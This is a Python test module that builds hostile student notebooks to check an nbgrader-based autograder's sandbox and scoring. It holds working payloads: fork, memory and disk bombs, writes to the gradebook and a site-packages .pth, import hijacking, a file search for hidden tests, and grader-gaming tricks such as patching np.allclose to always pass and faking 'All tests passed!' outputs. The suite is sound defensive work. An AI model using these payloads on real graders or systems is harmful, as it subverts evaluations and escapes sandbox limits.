"""The hostile submissions catalogue: notebooks that attack the grader, and what must happen.

Each :class:`Case` builds one student's submission folder of ps01_search (numpy only, so cheap to
grade; the torch case uses ps03_projections) from the released notebook with the reference
answers filled in, then changes it. Its expectation says which graded functions keep their
points, which problems the ``qkv-grade`` report names, and anything else to check. Every hostile
program here stops by itself (a fork bomb after a few thousand forks, a memory bomb at a few GiB,
loops after a minute), so that a limit that fails cannot take the test machine down.

ps01's points: dot_scores 3 (visible 1 + hidden 2), hard_lookup 3, soft_lookup 5; hard_lookup's
and soft_lookup's tests use a trusted dot_scores, so a broken dot_scores costs its own 3 only.

**Attacks on outside grading** (second half of the file, :data:`ATTACKS`). The assignments of
:data:`OUTSIDE` are decided in the grader: the kernel only runs the student's functions on the
grader's inputs and publishes the results (``qkv_course.emit``), and sees a view of the package
without references, hidden cases or checks. Each :class:`Attack` is notebook code written once,
knowing the graded functions only by the names in :data:`POINTS`, and is packed onto every
assignment of :data:`OUTSIDE` twice: on the *blank* release (the ``raise NotImplementedError()``
stubs), where every test must score 0, and on the *correct* answers with the same hooks, which
must keep full marks (no false positive). The forged emissions have no correct base where it
means nothing (made-up values, a function never run); for a double emission and a stolen nonce
the correct base must score 0 too (see their ``why_zero``). Each attack is written so that it
*would* score on a grader that ran its checks in the kernel, and its last cell prints
``all hooks fired`` only if every hook it counts on ran while the tests ran, so that a case never
passes because its attack did nothing.

Packing: attacks that do not stand in each other's way share a notebook (:data:`PACKS`: those that
only read the kernel, those that change it (modules, builtins, values while the checks run), and
the forgers by what their correct base must score), 9 notebooks per assignment instead of
one per attack, assignment and base (``QKV_HOSTILE_PACK=0`` grades them one by one). Every counter
of every attack in a pack must fire, so a pack cannot pass because one of its attacks did nothing.
The file search is the one attack whose notebooks split work: the file system outside the package
view is the same in every kernel, so each of its notebooks (two per assignment) reads every file of
its own kernel's likeliest places (the view, the working directory, /tmp, /home) and a slice of the
rest of ``/``; together they read all of it, each in a few seconds.
"""

from __future__ import annotations

import copy
from dataclasses import dataclass
from pathlib import Path
from typing import Callable

import nbformat

from nbgrader_course import REPO, is_question, student_notebook

from qkv_grader.assignments import ASSIGNMENTS as _GRADING
from qkv_grader.catalog import graded_items

#: assignment -> graded function -> its points (visible + hidden), from the source notebooks
POINTS: dict[str, dict[str, int]] = {}
for _item in graded_items(REPO / "solutions"):
    POINTS.setdefault(_item.assignment, {})[_item.function] = _item.total

# Limits the hostile batch is graded with (qkv-grade flags): small, so the suite stays quick.
LIMITS = dict(cell_timeout=10, notebook_timeout=90, memory_gib=2.0, processes=64)
# The batch's kernels run as ids of their own, so that a test can tell them from the kernels of
# tests running beside it.
UID_BASE = 1_200_000


@dataclass(frozen=True)
class Case:
    name: str
    what: str
    build: Callable[["Builder"], dict[str, bytes]]  # file name -> content of the submission folder
    keeps: frozenset[str]                  # graded functions that keep all their points
    problems: tuple[str, ...] = ()         # substrings the student's report problems must contain
    assignment: str = "ps01_search"
    output_text: tuple[str, ...] = ()      # text that must appear in the autograded notebook
    max_notebook_bytes: int | None = None  # bound on the autograded notebook's size
    absent_text: tuple[str, ...] = ()      # text that must not appear in the autograded notebook
    plain: bool = False                    # also graded by plain `nbgrader autograde`, alike

    @property
    def score(self) -> float:
        """The score the case must get: the points of the functions it keeps."""
        points = POINTS[self.assignment]
        unknown = self.keeps - set(points)
        if unknown:
            raise ValueError(f"{self.name}: {sorted(unknown)} are not graded in {self.assignment}")
        return float(sum(points[f] for f in self.keeps))

    @property
    def max_score(self) -> float:
        return float(sum(POINTS[self.assignment].values()))


@dataclass
class Builder:
    """Makes the notebook of a case: the release with reference answers, then changed."""

    course: Path
    assignment: str = "ps01_search"
    notebook: str = "search.ipynb"

    def correct(self, **answers: str) -> nbformat.NotebookNode:
        release = self.course / "notebooks" / self.assignment / self.notebook
        source = REPO / "solutions" / self.assignment / self.notebook
        return student_notebook(release, source, answers)

    def answer_cell(self, nb: nbformat.NotebookNode, grade_id: str) -> nbformat.NotebookNode:
        return next(c for c in nb.cells if c.metadata.get("nbgrader", {}).get("grade_id") == grade_id)

    def prepend(self, nb: nbformat.NotebookNode, grade_id: str, code: str) -> nbformat.NotebookNode:
        cell = self.answer_cell(nb, grade_id)
        cell.source = code.strip() + "\n\n" + cell.source
        return nb

    def append(self, nb: nbformat.NotebookNode, grade_id: str, code: str) -> nbformat.NotebookNode:
        cell = self.answer_cell(nb, grade_id)
        cell.source = cell.source + "\n\n" + code.strip() + "\n"
        return nb

    def files(self, nb: nbformat.NotebookNode, name: str | None = None) -> dict[str, bytes]:
        return {name or self.notebook: nbformat.writes(nb).encode()}


def _ids(nb: nbformat.NotebookNode) -> list[str]:
    return [c.metadata.get("nbgrader", {}).get("grade_id", "") for c in nb.cells]


def questions(assignment: str) -> frozenset[str]:
    """The assignment's questions (answers judged outside the kernel, untouched by the attacks on
    its functions)."""
    return frozenset(q for q in POINTS[assignment] if is_question(assignment, q))


ALL = frozenset(POINTS["ps01_search"])
NONE: frozenset[str] = frozenset()


def _wrong_dot_scores() -> str:
    return "def dot_scores(query, keys):\n    return keys.sum(axis=-1)\n"


def _fork_bomb(b: Builder) -> dict[str, bytes]:
    code = '''
import os, time
children = 0
try:
    for _ in range(3000):          # stops by itself after 3000 forks
        pid = os.fork()
        if pid == 0:
            time.sleep(20)
            os._exit(0)
        children += 1
except OSError as error:
    print("fork refused after", children, "children:", type(error).__name__)
print("kernel uid", os.getuid())
'''
    return b.files(b.append(b.correct(), "dot_scores", code))


def _disk_filler(b: Builder) -> dict[str, bytes]:
    """Fills every place the kernel can write (its /tmp, its home, its working directory) with 32 MiB
    files until the file system refuses, and reads a file handed in beside the notebook."""
    code = r'''
import os
print("handed-in file:", open("beside.txt").read())
_mib = {}
for _place in ("/tmp", os.path.expanduser("~"), os.getcwd()):
    _n = 0
    try:
        while _n < 48:                                    # stops by itself at 1.5 GiB
            with open(os.path.join(_place, f"fill{_n}.bin"), "wb") as _f:
                _f.write(b"x" * (32 * 1024 * 1024))
            _n += 1
    except OSError as _e:
        print(_place, "refused:", type(_e).__name__)
    _mib[_place] = 32 * _n
print("MiB written:", _mib)
print("disk writes bounded:", all(v <= 256 for v in _mib.values()))
'''
    return {**b.files(b.append(b.correct(), "dot_scores", code)), "beside.txt": b"hello from beside"}


def _request_link(b: Builder) -> dict[str, bytes]:
    """Puts a symbolic link where the grader writes its requests (a folder of the kernel's IPC
    directory, found from the connection file's path), pointing at the student's own submission
    folder on the host: the batch checks that submitted/ is unchanged."""
    target = b.course / "submitted" / "request_link" / b.assignment
    code = r'''
import os, sys
_ipc = os.path.dirname(next(a for a in sys.argv if a.endswith(".json")))
try:
    os.symlink(TARGET, os.path.join(_ipc, "requests"))
    print("request link " + "planted")
except OSError as _e:
    # one write, so one stream message: under load a print's pieces can be flushed apart, and
    # a piece flushed after the cell's end is not the cell's
    print("request link refused: " + type(_e).__name__)
'''.replace("TARGET", repr(str(target)))
    return b.files(b.append(b.correct(), "dot_scores", code))


def _ipc_filler(b: Builder) -> dict[str, bytes]:
    """Writes into the kernel's IPC directory (a folder of the host's disk, found from the
    connection file's path) after defining dot_scores."""
    code = r'''
import os, sys
_ipc = os.path.dirname(next(a for a in sys.argv if a.endswith(".json")))
try:
    with open(os.path.join(_ipc, "fill.bin"), "wb") as _f:
        _f.write(b"x" * (1024 * 1024))
    print("ipc write " + "succeeded")
except OSError as _e:
    print("ipc write refused:", type(_e).__name__)
'''
    return b.files(b.append(b.correct(), "dot_scores", code))


def _memory_bomb(b: Builder) -> dict[str, bytes]:
    # numpy.empty reserves address space without touching it, so the bomb meets the sandbox's
    # address-space limit (RLIMIT_AS) at once, whatever the machine's page-fault speed (zeroing
    # 2 GiB block by block took over the 10 s cell limit on a loaded CI machine)
    code = '''
import numpy as np

def bomb():
    blocks = []
    for _ in range(24):            # stops by itself at 6 GiB
        blocks.append(np.empty(256 * 1024 * 1024, dtype=np.uint8))

bomb()
'''
    return b.files(b.append(b.correct(), "dot_scores", code))


def _search_disk(b: Builder) -> dict[str, bytes]:
    course = str(b.course)
    code = f'''
import os
found = []
import sys
skip = ("/proc", "/sys", "/usr", "/dev", "/bin", "/sbin", "/lib", sys.prefix, sys.base_prefix)
for top in ["/", {course!r}, os.path.expanduser("~")]:
    for dirpath, dirnames, filenames in os.walk(top):
        if dirpath.startswith(skip):
            dirnames[:] = []
            continue
        for name in filenames:
            path = os.path.join(dirpath, name)
            if name == "gradebook.db" or "solutions" in path.split(os.sep):
                found.append(path)
            elif name.endswith(".ipynb"):
                try:
                    if "BEGIN HIDDEN TESTS" in open(path, errors="ignore").read():
                        found.append(path)
                except OSError:
                    pass
print("hostile search found", len(found), "files:", found[:5])
if found:   # what it would do with a leak: hand in a wrong answer, so the grade shows the leak
    def soft_lookup(*args, **kwargs):
        return None
'''
    return b.files(b.append(b.correct(), "soft_lookup", code))


def _write_everywhere(b: Builder) -> dict[str, bytes]:
    course = str(b.course)
    code = f'''
import os, site, sys
targets = [
    os.path.join({course!r}, "submitted", "good", "ps01_search", "search.ipynb"),
    os.path.join({course!r}, "gradebook.db"),
    os.path.join({course!r}, "autograded", "good", "ps01_search", "search.ipynb"),
    os.path.join({course!r}, "nbgrader_config.py"),
    os.path.join(sys.prefix, "lib", "python3.11", "site-packages", "zz_hostile.pth"),
] + [os.path.join(p, "zz_hostile.pth") for p in site.getsitepackages()]
written = []
for path in targets:
    try:
        with open(path, "a") as f:
            f.write("import os; os.environ['HOSTILE'] = '1'\\n")
        written.append(path)
    except OSError as error:
        pass
print("hostile writes that succeeded:", written)
'''
    return b.files(b.append(b.correct(), "hard_lookup", code))


def _stripped_metadata(b: Builder) -> dict[str, bytes]:
    nb = b.correct()
    for cell in nb.cells:
        cell.metadata.pop("nbgrader", None)
    return b.files(nb)


def _deleted_tests(b: Builder) -> dict[str, bytes]:
    nb = b.correct()
    nb.cells = [c for c in nb.cells if "test_" not in c.metadata.get("nbgrader", {}).get("grade_id", "")]
    return b.files(nb)


def _edited_tests(b: Builder) -> dict[str, bytes]:
    nb = b.correct(dot_scores=_wrong_dot_scores())
    for cell in nb.cells:
        if cell.metadata.get("nbgrader", {}).get("grade"):
            cell.source = "pass  # the student's version of the test"
    return b.files(nb)


def _duplicated_tests(b: Builder) -> dict[str, bytes]:
    nb = b.correct(dot_scores=_wrong_dot_scores())
    extra = []
    for cell in nb.cells:
        extra.append(cell)
        if cell.metadata.get("nbgrader", {}).get("grade"):
            twin = copy.deepcopy(cell)
            twin.source = "pass"
            twin["id"] = twin.get("id", "cell") + "-twin"
            extra.append(twin)
    nb.cells = extra
    return b.files(nb)


def _retyped_tests(b: Builder) -> dict[str, bytes]:
    nb = b.correct(dot_scores=_wrong_dot_scores())
    for cell in nb.cells:
        if cell.metadata.get("nbgrader", {}).get("grade") and cell.cell_type == "code":
            cell.cell_type = "markdown"
            cell.pop("outputs", None)
            cell.pop("execution_count", None)
    return b.files(nb)


def _faked_outputs(b: Builder) -> dict[str, bytes]:
    nb = b.correct(dot_scores=_wrong_dot_scores())
    for cell in nb.cells:
        if cell.cell_type == "code":
            cell.execution_count = 1
            cell.outputs = [nbformat.v4.new_output("stream", name="stdout", text="All tests passed!\n")]
    return b.files(nb)


def _changed_kernelspec(b: Builder) -> dict[str, bytes]:
    nb = b.correct()
    nb.metadata["kernelspec"] = {"name": "no-such-kernel", "display_name": "Evil", "language": "bash"}
    return b.files(nb)


def _renamed(b: Builder) -> dict[str, bytes]:
    return b.files(b.correct(), "search (1).ipynb")


def _truncated(b: Builder) -> dict[str, bytes]:
    data = b.files(b.correct())[b.notebook]
    return {b.notebook: data[: len(data) // 2]}


def _output_spam(b: Builder) -> dict[str, bytes]:
    code = '''
for _ in range(40):               # 400 MB of output, 10 MB at a time
    print("spam " * 2_000_000)
'''
    return b.files(b.append(b.correct(), "dot_scores", code))


def _display_update_spam(b: Builder) -> dict[str, bytes]:
    """nbclient applies ``update_display_data`` itself: the hole in a per-cell output cap."""
    nb = b.correct()
    code = '''
from IPython.display import display
handle = display("x", display_id=True)
for _ in range(4):                # 120 MB of display updates, 30 MB at a time
    handle.update("u" * 30_000_000)
'''
    b.append(nb, "dot_scores", code)
    for grade_id in ("dot_scores", "hard_lookup", "soft_lookup"):  # 3 MB each: under a cell's cap
        b.append(nb, grade_id, 'print("p" * 3_000_000)')
    return b.files(nb)


def _nbformat3(b: Builder) -> dict[str, bytes]:
    """A correct notebook saved in the old format (nbformat 3: worksheets, no cell ids)."""
    return {b.notebook: nbformat.writes(nbformat.convert(b.correct(), 3)).encode()}


def _malformed_metadata(b: Builder) -> dict[str, bytes]:
    """A correct notebook whose cells carry nbgrader metadata of the wrong types."""
    nb = b.correct()
    b.answer_cell(nb, "dot_scores").metadata.nbgrader["grade_id"] = ["dot_scores"]
    b.answer_cell(nb, "soft_lookup").metadata.nbgrader["points"] = "five"
    b.answer_cell(nb, "hard_lookup").metadata["nbgrader"] = "solution"
    test = b.answer_cell(nb, "test_dot_scores_visible")
    test.metadata.nbgrader["points"] = "lots"
    odd = [{"grade_id": {"a": 1}, "grade": True}, {"grade_id": 7, "solution": True, "points": None},
           [1, 2], "nbgrader", {"grade_id": "test_soft_lookup_hidden", "grade": "yes", "points": "9"}]
    for number, meta in enumerate(odd):
        cell = nbformat.v4.new_code_cell(f"odd_{number} = {number}")
        cell.metadata["nbgrader"] = meta
        nb.cells.insert(nb.cells.index(test) + 1, cell)
    return b.files(nb)


#: A course package handed in beside the notebook: imported ahead of the installed one, it would
#: load the real package and then answer every graded function of ps01 after every cell.
_FAKE_PACKAGE = r"""
import importlib.util, os, sys
print("HOSTILE fake qkv_course imported")
_me, _saved = sys.modules.pop("qkv_course"), list(sys.path)
_here = os.path.dirname(os.path.dirname(os.path.abspath(__file__)))
sys.path[:] = [p for p in sys.path if p and os.path.abspath(p) != _here]
_spec = importlib.util.find_spec("qkv_course")
sys.path[:], sys.modules["qkv_course"] = _saved, _me
__path__[:] = list(_spec.submodule_search_locations)
exec(compile(open(_spec.origin).read(), _spec.origin, "exec"), globals())

import numpy as _np

def _dot_scores(query, keys):
    return query @ keys.T

def _hard_lookup(query, keys, values):
    return values[_np.argmax(_dot_scores(query, keys), axis=-1)]

def _soft_lookup(query, keys, values, temperature=1.0):
    s = _dot_scores(query, keys) / temperature
    w = _np.exp(s - s.max(axis=-1, keepdims=True))
    return (w / w.sum(axis=-1, keepdims=True)) @ values

def _inject(*args):
    get_ipython().user_ns.update(dot_scores=_dot_scores, hard_lookup=_hard_lookup, soft_lookup=_soft_lookup)

from IPython import get_ipython
if get_ipython() is not None:
    get_ipython().events.register("post_run_cell", _inject)
"""


#: A numpy handed in beside the notebook: imported ahead of the installed one, it says so and then
#: puts the real numpy in its place.
_FAKE_NUMPY = r"""
import os, sys
print("HOSTILE fake numpy imported")
_saved = list(sys.path)
_here = os.path.dirname(os.path.abspath(__file__))
sys.path[:] = [p for p in sys.path if p and os.path.abspath(p) != _here]
del sys.modules["numpy"]
import numpy as _real
sys.path[:] = _saved
sys.modules["numpy"] = _real
"""


def _fake_package(b: Builder) -> dict[str, bytes]:
    """The blank release, with a fake ``qkv_course/`` package and ``numpy.py`` beside it."""
    release = (b.course / "notebooks" / b.assignment / b.notebook).read_bytes()
    return {b.notebook: release, "qkv_course/__init__.py": _FAKE_PACKAGE.encode(),
            "numpy.py": _FAKE_NUMPY.encode()}


def _torch_patch(b: Builder) -> dict[str, bytes]:
    pb = Builder(b.course, "ps03_projections", "projections.ipynb")
    code = '''
import numpy as np, torch
torch.allclose = lambda *a, **k: True
torch.equal = lambda *a, **k: True
torch.Tensor.__eq__ = lambda self, other: torch.ones((), dtype=torch.bool)
np.allclose = lambda *a, **k: True
np.testing.assert_allclose = lambda *a, **k: None

def project_qkv(X, W_q, W_k, W_v):
    return X, X, X
'''
    nb = pb.correct(project_qkv=code)
    return pb.files(nb)


CASES: list[Case] = [
    Case("infinite_loop", "`while True: pass` inside dot_scores",
         lambda b: b.files(b.correct(dot_scores="def dot_scores(query, keys):\n    while True:\n        pass\n")),
         ALL - {"dot_scores"}, ("cell timeout",)),
    Case("swallows_interrupt", "a minute-long loop that catches KeyboardInterrupt, in dot_scores",
         lambda b: b.files(b.correct(dot_scores=(
             "import time\n\ndef dot_scores(query, keys):\n    end = time.time() + 60\n"
             "    while time.time() < end:\n        try:\n            time.sleep(0.01)\n"
             "        except KeyboardInterrupt:\n            pass\n"))),
         NONE, ("timeout",)),
    Case("memory_bomb", "reserves 256 MiB numpy blocks up to 6 GiB after defining dot_scores",
         _memory_bomb, ALL, ("memory error",)),
    Case("disk_filler", "writes 32 MiB files into its /tmp, home and working directory until refused "
         "(1.5 GiB each at most), after defining dot_scores; reads a file handed in beside the notebook",
         _disk_filler, ALL, output_text=("handed-in file: hello from beside", "disk writes bounded: True"),
         plain=True),
    Case("request_link", "links the folder the grader writes its requests into to its own submission folder "
         "on the host (which must stay unchanged), after defining every function: the IPC directory "
         "is the grader's once the kernel is up (and the grader would not follow the link)",
         _request_link, ALL, output_text=("request link refused: PermissionError",),
         absent_text=("request link planted",)),
    Case("ipc_filler", "writes into the kernel's IPC directory on the host's disk, after defining "
         "dot_scores", _ipc_filler, ALL, output_text=("ipc write refused: PermissionError",),
         absent_text=("ipc write succeeded",)),
    Case("os_exit", "`os._exit(0)` in the hard_lookup answer cell", lambda b: b.files(
        b.prepend(b.correct(), "hard_lookup", "import os\nos._exit(0)")), frozenset({"dot_scores"}),
        ("kernel died",), output_text=("GradingStopped",), plain=True),
    Case("sys_exit", "`sys.exit()` after a correct hard_lookup", lambda b: b.files(
        b.append(b.correct(), "hard_lookup", "import sys\nsys.exit()")), ALL),
    Case("exit_in_function", "dot_scores calls IPython's exit()",
         lambda b: b.files(b.correct(dot_scores="def dot_scores(query, keys):\n    exit()\n")),
         ALL - {"dot_scores"}, output_text=("raised SystemExit",)),
    Case("fork_bomb", "forks until refused (3000 at most) after a correct dot_scores",
         _fork_bomb, ALL, output_text=("fork refused",)),
    Case("showtraceback", "IPython's showtraceback disabled, then a wrong dot_scores", lambda b: b.files(
        b.prepend(b.correct(dot_scores=_wrong_dot_scores()), "dot_scores",
                  "get_ipython().showtraceback = lambda *a, **k: None")), ALL - {"dot_scores"}),
    Case("always_equal", "dot_scores returns an object equal to everything",
         lambda b: b.files(b.correct(dot_scores=(
             "import numpy as np\n\nclass Anything(np.ndarray):\n    def __eq__(self, other):\n"
             "        return True\n    __ne__ = lambda self, other: False\n\n"
             "def dot_scores(query, keys):\n    return np.zeros(len(keys)).view(Anything)\n"))),
         ALL - {"dot_scores"}),
    Case("patched_numpy", "np.allclose, np.testing and np.isclose always agree; dot_scores wrong",
         lambda b: b.files(b.prepend(b.correct(dot_scores=_wrong_dot_scores()), "dot_scores", (
             "import numpy as np\nnp.allclose = lambda *a, **k: True\n"
             "np.isclose = lambda a, b, **k: np.ones(np.shape(a), bool)\n"
             "np.testing.assert_allclose = lambda *a, **k: None\n"
             "np.testing.assert_array_equal = lambda *a, **k: None"))),
         # ps01 is decided outside the kernel: the patched numpy never meets a check, so there is
         # no in-kernel guard left to report it (it used to print "numpy.allclose ... put back")
         ALL - {"dot_scores"}),
    Case("patched_torch", "torch.allclose, torch.equal, Tensor.__eq__ and numpy patched; project_qkv wrong",
         _torch_patch, frozenset({"QKVProjection"}) | questions("ps03_projections"),
         assignment="ps03_projections",
         output_text=("(Q) returned",)),
    Case("input_transformer", "an IPython input transformer that turns every later cell into `pass`",
         lambda b: b.files(b.append(b.correct(dot_scores=_wrong_dot_scores()), "dot_scores",
                                    "get_ipython().input_transformers_post.append(lambda lines: ['pass\\n'])")),
         NONE, ("test did not run as written",)),
    # decided outside the kernel, the grader's line still runs (inside the try) and publishes: the
    # wrong dot_scores fails on its values, the others keep their points, nothing is unconfirmed
    Case("ast_swallow", "an AST transformer that wraps every later cell in try/except",
         lambda b: b.files(b.append(b.correct(dot_scores=_wrong_dot_scores()), "dot_scores", '''
import ast

class Swallow(ast.NodeTransformer):
    def visit_Module(self, node):
        handler = ast.ExceptHandler(type=ast.Name("BaseException", ast.Load()), name=None, body=[ast.Pass()])
        node.body = [ast.Try(body=node.body or [ast.Pass()], handlers=[handler], orelse=[], finalbody=[])]
        return ast.fix_missing_locations(node)

get_ipython().ast_transformers.append(Swallow())
''')), ALL - {"dot_scores"}),
    # decided outside the kernel, the fake module is never used: the wrong dot_scores fails, the
    # right hard_lookup and soft_lookup keep their points
    Case("pre_run_hook", "a pre_run_cell hook that swaps in a fake grading module before every cell",
         lambda b: b.files(b.append(b.correct(dot_scores=_wrong_dot_scores()), "dot_scores", '''
import sys, types

def fake(info):
    module = types.ModuleType("qkv_course.checks.search")
    for name in ("check_dot_scores", "check_dot_scores_hidden", "check_hard_lookup",
                 "check_hard_lookup_hidden", "check_soft_lookup", "check_soft_lookup_hidden"):
        setattr(module, name, lambda *a, **k: print("All tests passed!"))
    module.__getattr__ = lambda name: (lambda *a, **k: None)
    sys.modules["qkv_course.checks.search"] = module

get_ipython().events.register("pre_run_cell", fake)
''')), ALL - {"dot_scores"}),
    Case("deleted_tests", "every test cell deleted (correct answers)", _deleted_tests, ALL),
    Case("edited_tests", "every test cell replaced by `pass`, dot_scores wrong", _edited_tests,
         ALL - {"dot_scores"}),
    Case("duplicated_tests", "every test cell duplicated as `pass`, dot_scores wrong", _duplicated_tests,
         ALL - {"dot_scores"}),
    Case("retyped_tests", "every test cell turned into markdown, dot_scores wrong", _retyped_tests,
         ALL - {"dot_scores"}),
    Case("stripped_metadata", "all nbgrader metadata removed (correct answers)", _stripped_metadata, ALL),
    Case("faked_outputs", "'All tests passed!' written into every output, dot_scores wrong",
         _faked_outputs, ALL - {"dot_scores"}),
    Case("changed_kernelspec", "kernelspec set to a kernel that does not exist", _changed_kernelspec, ALL),
    Case("invalid_json", "not JSON at all", lambda b: {b.notebook: b"this is not a notebook\n"}, NONE,
         ("ungradable", "not valid JSON")),
    Case("truncated", "the notebook file cut in half", _truncated, NONE, ("ungradable", "not valid JSON")),
    Case("renamed", "the notebook saved as 'search (1).ipynb'", _renamed, NONE,
         ("ungradable", "search.ipynb is missing", "search (1).ipynb")),
    Case("reads_disk", "walks the file system for the gradebook, solutions and hidden tests",
         _search_disk, ALL, output_text=("hostile search found 0 files",), plain=True),
    Case("writes_everywhere", "writes into another student's folders, the gradebook, the config and "
         "site-packages (a .pth file)", _write_everywhere, ALL,
         output_text=("hostile writes that succeeded: []",), plain=True),
    Case("output_spam", "prints 400 MB", _output_spam, ALL, max_notebook_bytes=2_000_000),
    # the notebook's output is capped in all (8 MiB), every message type counted: the updates and
    # the prints of 3 MB beside them are dropped once the notebook has sent 8 MiB
    Case("display_update_spam", "a display handle updated with 120 MB, and 3 MB printed in each "
         "answer cell", _display_update_spam, ALL, max_notebook_bytes=9_000_000,
         output_text=("was dropped by the grader",)),
    # odd but honest: graded like any other notebook, by qkv-grade and by plain nbgrader
    Case("nbformat3", "a correct notebook saved as nbformat 3", _nbformat3, ALL, plain=True),
    Case("malformed_metadata", "a correct notebook with grade_ids that are lists, dicts and numbers, "
         "points that are text, nbgrader metadata that is not a mapping", _malformed_metadata, ALL,
         plain=True),
    Case("fake_package", "the blank release with a fake qkv_course/ package and numpy.py beside it",
         _fake_package, NONE, ("qkv_course/: a Python package, not copied",
                               "numpy.py: a Python module, not copied"),
         absent_text=("HOSTILE fake",), plain=True),
]


def submission_files(case: Case, course: Path) -> dict[str, bytes]:
    """The files of the case's submission folder, for a course at ``course``."""
    return case.build(Builder(course))


# =============================================================================================
# Attacks on the outside grading (tests decided in the grader, not in the student's kernel)
# =============================================================================================
#
# Each attack below is written once, as notebook code that knows the graded functions only by
# the names in ``_H_FUNCTIONS`` (filled in from POINTS), and is packed onto every assignment whose
# tests are decided outside the kernel (OUTSIDE). An attack is made of
#
# * ``setup``: a new code cell right after the imports cell (after ``_COMMON``, the shared tools);
# * ``wrapped``: every graded function F becomes ``_h_wrap("F", F, attack)``: the attack runs on
#   each call with the grader's inputs and the original answer runs after it. In a *blank* base the
#   original is the unanswered stub, so the wrapper returns what the attack found that looks like
#   an answer (``_h_plausible``) or else a guess of the right shape (``_h_guess``); in a *correct*
#   base it returns the reference answer, so that the case proves the hooks cost nothing;
# * ``before_imports``: a new code cell put before the imports cell;
# * ``finale``: a last cell; ``_FINALE`` prints ``hostile <attack>: all hooks fired`` when every
#   counter in ``_H_MUST`` went up while the tests ran, so that a case cannot pass because its
#   attack never ran.
#
# Every hostile program stops by itself: threads are daemons that end after ``_H_SECONDS``,
# timers and hooks go quiet then too, and the file search reads a bounded number of bytes.

#: assignment -> its notebook: the assignments decided outside the kernel that these attacks are
#: packed onto: every one.
OUTSIDE: dict[str, str] = {
    name: next((REPO / "solutions" / name).glob("*.ipynb")).name
    for name, spec in sorted(_GRADING.items()) if spec.outside
}
assert all(_GRADING[name].outside for name in OUTSIDE), "an assignment of OUTSIDE is graded in the kernel"


_COMMON = r'''
# --- hostile tools shared by every attack (generic: they know the graded functions by name only)
import sys as _h_sys, time as _h_time, threading as _h_th
import numpy as _h_np

_H_LOG = {}                       # counters the last cell prints
_H_MUST = []                      # counters that must have gone up for the attack to count as run
_H_SECONDS = 80                   # every hook and thread goes quiet after this long
_H_END = _h_time.monotonic() + _H_SECONDS
_H_EXPECTED_NAMES = ("expected", "want", "wanted", "reference", "ref", "e", "target", "truth",
                     "correct", "answer", "expected_output", "expected_weights")


def _h_count(key, n=1):
    _H_LOG[key] = _H_LOG.get(key, 0) + n


def _h_inputs(args, kwargs):
    return [a for a in list(args) + list(kwargs.values()) if isinstance(a, _h_np.ndarray)]


def _h_plausible(value, args, kwargs):
    """Could ``value`` be the answer of this call: numbers or arrays of numbers that are not one
    of the inputs (a tuple of up to four such arrays for functions that return several)."""
    inputs = _h_inputs(args, kwargs)

    def one(v):
        if isinstance(v, _h_np.ndarray):
            return (v.size > 0 and v.dtype.kind in "biuf"
                    and not any(v is a or _h_np.may_share_memory(v, a) for a in inputs))
        return isinstance(v, (int, float, _h_np.number)) and not isinstance(v, bool)

    if isinstance(value, tuple):
        return 0 < len(value) <= 4 and all(one(v) for v in value)
    return one(value)


def _h_guess(args, kwargs):
    """A made-up answer of the right shape, guessed from the inputs alone (as the docstrings say
    how outputs are shaped): zeros."""
    vals = list(args) + list(kwargs.values())
    arrs = [v for v in vals if isinstance(v, _h_np.ndarray) and v.ndim >= 1 and v.dtype.kind == "f"]
    ints = [int(v) for v in vals if isinstance(v, (int, _h_np.integer)) and not isinstance(v, bool)]
    seqs = [v for v in vals if isinstance(v, (list, tuple))
            or (isinstance(v, _h_np.ndarray) and v.dtype.kind in "iu")]
    if not arrs:
        if seqs and ints:
            return _h_np.zeros((len(seqs[0]), max(ints[0], 0)), bool)          # (batch, max_len)
        if 1 <= len(ints) <= 2 and 0 <= ints[0] <= 4096:
            return _h_np.zeros((ints[0], ints[0]), bool)                       # (n, n)
        return 0                                                               # a count
    if len(arrs) >= 4 and all(w.ndim == 2 for w in arrs[-3:]):                 # X..., W_q, W_k, W_v
        xq, xkv = arrs[0], arrs[-4]
        return (_h_np.zeros(xq.shape[:-1] + (arrs[-1].shape[1],)),
                _h_np.zeros(xq.shape[:-1] + (xkv.shape[-2],)))
    if len(arrs) >= 3:                                                         # query/Q, keys/K, values/V
        q, k, v = arrs[:3]
        out = _h_np.zeros(q.shape[:-1] + (v.shape[-1],))
        if q.ndim >= 2 and k.ndim == q.ndim and not ints:
            return out, _h_np.zeros(q.shape[:-1] + (k.shape[-2],))
        return out
    if len(arrs) == 2 and arrs[1].ndim == 2 and arrs[0].shape[-1:] == arrs[1].shape[-1:]:
        return _h_np.zeros(arrs[0].shape[:-1] + (arrs[1].shape[0],))          # (..., n) scores
    return _h_np.zeros(arrs[0].shape)


def _h_quiet(f, args, kwargs):
    """Call ``f`` with the profiler and the tracer off (the grader's tripwire is a profiler),
    and put them back afterwards, so that the tripwire finds itself in place."""
    saved = (_h_sys.getprofile(), _h_sys.gettrace(), _h_th.getprofile(), _h_th.gettrace())
    _h_sys.setprofile(None); _h_sys.settrace(None); _h_th.setprofile(None); _h_th.settrace(None)
    _h_count("calls with the profiler off")
    try:
        return f(*args, **kwargs)
    finally:
        _h_sys.setprofile(saved[0]); _h_sys.settrace(saved[1])
        _h_th.setprofile(saved[2]); _h_th.settrace(saved[3])


def _h_silenced(f, args, kwargs):
    """``_h_quiet``, and the course's record of calls of its own (stubbed) code muted and wiped."""
    emit = _h_sys.modules.get("qkv_course.emit")
    saved = getattr(emit, "note_unavailable", None)
    if emit is not None:
        emit.note_unavailable = lambda *a, **k: None
    try:
        return _h_quiet(f, args, kwargs)
    finally:
        if emit is not None:
            emit.note_unavailable = saved
            del emit.UNAVAILABLE_CALLS[:]


def _h_no_attack(name, args, kwargs):
    return []


_H_ORIGINALS = {}                 # graded function -> the notebook's own version (its signature)
# The attack runs on the first calls of each graded function: ps11's training calls the notebook's
# attention thousands of times, and a walk of frames or of gc's objects that found nothing in the
# first calls (the grader's values are never in the kernel) would only cost the suite minutes.
_H_ATTACK_CALLS = 60
_H_CALLS = {}


def _h_attacking(name):
    _H_CALLS[name] = _H_CALLS.get(name, 0) + 1
    if _H_CALLS[name] > _H_ATTACK_CALLS:
        _h_count("calls past the attack budget")
        return False
    return True


def _h_wrap(name, original, attack=_h_no_attack, after=None):
    """``original`` with ``attack`` run before it on the same inputs (see tests/hostile.py)."""
    _H_ORIGINALS[name] = original
    if isinstance(original, type):
        return _h_wrap_class(name, original, attack, after)

    def hostile(*args, **kwargs):
        found = []
        try:
            if _h_attacking(name):
                found = list(attack(name, args, kwargs))
        except Exception:
            _h_count("attack errors")
